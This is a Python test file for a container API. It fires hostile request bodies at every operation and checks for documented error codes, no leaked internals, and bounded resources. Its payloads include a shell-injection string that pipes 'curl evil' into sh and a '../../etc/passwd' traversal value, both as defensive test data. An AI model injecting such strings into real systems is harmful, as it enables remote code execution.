"""Hostile bodies for every operation that takes one (F50): a refusal in the API's own words, soon, and nothing else.

What has to do with the connection is in `test_connection.py`; requests made from the document itself, with a key and
without, in `tests/api/test_openapi.py`.
"""

from __future__ import annotations

import json
import re
import resource
import time
from typing import Any
from uuid import uuid4

import pytest

from app.api.errors import body as error_body
from app.limits import Limits
from app.openapi.table import OPERATIONS
from app.settings import Settings
from tests.admin.conftest import Office
from tests.api.client import API
from tests.api.test_api import HOSTILE
from tests.security.conftest import fresh

Attributes = dict[str, Any]
TAKING = sorted((method, path) for (method, path), row in OPERATIONS.items() if row.body is not None)
SHELL = "$(touch /tmp/pwned); `id` && curl evil | sh #'\"\\"
SERVICES: list[Attributes] = [
    {"container_envvars": [{"key": "A", "value": "x" * 131_072}]},
    {"container_envvars": [{"key": f"K{n}", "value": ""} for n in range(10_000)]},
    {"container_envvars": [{"key": f"K{n}", "value": "v" * 1200} for n in range(840)]},
    {"labels": {"a": "x" * 500_000}},
    {"labels": {f"a{n}": "" for n in range(10_000)}, "name": "x" * 300},
    {"labels": {"tutela.container": "mine"}},
    {"name": "n" * 300},
    {"name": "\u202e\u0000"},
    {"name": "ünïcode-🐳"},
    {"name": SHELL},
    {"image": SHELL},
    {"image": "a" * 70_000},
    {"image": "../../etc/passwd"},
    {"target_num_containers": -1},
    {"target_num_containers": 10**9},
    {"target_num_containers": 10**400},
    {"target_num_containers": 1.5},
    {"memory": -5},
    {"memory": 10**18},
    {"cpu_shares": -(2**70)},
    {"container_ports": [{"protocol": "tcp", "inner_port": 70_000}]},
    {"container_ports": [{"protocol": "tcp", "inner_port": n} for n in range(1, 18_000)]},
    {"run_command": "'" + "x" * 40_000},
    {"hostname": SHELL},
    {"user": "\ud800"},
    {"tags": [{"name": SHELL}]},
    {"linked_to_service": [{"to_service": SHELL, "name": "a"}]},
    {"bindings": [{"container_path": "/a", "host_path": "/a:/b"}]},
    {"bindings": [{"container_path": "/../a"}]},
    {"dns": ["a b"], "extra_hosts": ["x:\n127.0.0.1"]},
    {"roles": ["admin"]},
]
SMALL = [each for each in HOSTILE if len(each) < 100_000]
SAID_TOO_MUCH = re.compile(r"Traceback|asyncpg|psycopg|SELECT |INSERT |/app/|site-packages|\.py\b|0x[0-9a-f]{6}")


@pytest.fixture(autouse=True)
def unlimited(office: Office) -> None:
    office.app.state.limits = Limits.of(Settings(limit_creates=100_000))


def documented(method: str, path: str) -> set[str]:
    row = OPERATIONS[method, path]
    return {str(each) for each in (row.code, *row.also)} | row.errors(method, path)


async def test_every_operation_takes_a_hostile_body_calmly(office: Office, capsys: pytest.CaptureFixture[str]) -> None:
    """Codes are documented ones, errors have their form and no word of the inside, and memory stays."""
    service = await office.create(name="web")
    stack = (await office.call("POST", f"{API}/stack/", json={"name": fresh("s"), "services": []})).json()
    user = await office.user_named("admin")
    node = await office.node(fresh("n"))
    there = {"service": service["uuid"], "stack": stack["uuid"], "admin": user["uuid"], "node": node}
    await office.call("POST", f"{API}/service/", content=HOSTILE[10])
    before, took, asked = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, [], 0
    for method, path in TAKING:
        kind = path.removeprefix("/api/v1/").split("/", 1)[0]
        if path.startswith("/api/v1/admin/user/{uuid}/") and method == "PATCH":
            there["admin"] = str(uuid4())
        named = path.replace("{uuid}", node if "/node/" in path else there.get(kind, str(uuid4())))
        named = re.sub(r"{\w+}", "x", named)
        for raw in HOSTILE if path == f"{API}/service/" else SMALL:
            start = time.process_time()
            answer = await office.call(method, named, content=raw, headers={"Content-Type": "application/json"})
            took.append(time.process_time() - start)
            asked += 1
            assert str(answer.status_code) in documented(method, path), (method, path, raw[:80], answer.text)
            assert answer.status_code < 500
            if answer.status_code >= 400:
                assert set(answer.json()) >= set(error_body("", ""))
                assert not SAID_TOO_MUCH.search(answer.text), answer.text
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
    took.sort()
    with capsys.disabled():
        print(f"\n{asked} hostile bodies over {len(TAKING)} operations: CPU p50 {took[asked // 2] * 1000:.1f} ms,"
              f" p99 {took[asked * 99 // 100] * 1000:.0f} ms, most {took[-1] * 1000:.0f} ms, +{grown} MB")  # fmt: skip
    assert took[asked // 2] < 0.05
    assert grown < 40


async def test_hostile_attributes_are_named_and_stored_nowhere(office: Office) -> None:
    before = await office.count()
    stacks = await office.count("stacks")
    for each in SERVICES:
        raw = json.dumps({"image": "a", **each})
        answer = await office.call("POST", f"{API}/service/", content=raw)
        assert answer.status_code == 400, (str(each)[:80], answer.text)
        stack = json.dumps({"name": fresh("s"), "services": [{"name": "x", "image": "a", **each}]})
        assert (await office.call("POST", f"{API}/stack/", content=stack)).status_code in {400, 413}, str(each)[:80]
    assert (await office.count(), await office.count("stacks")) == (before, stacks)
    records = (await office.call("GET", f"{API}/action/?limit=100")).text
    assert len(records) < 2_000_000
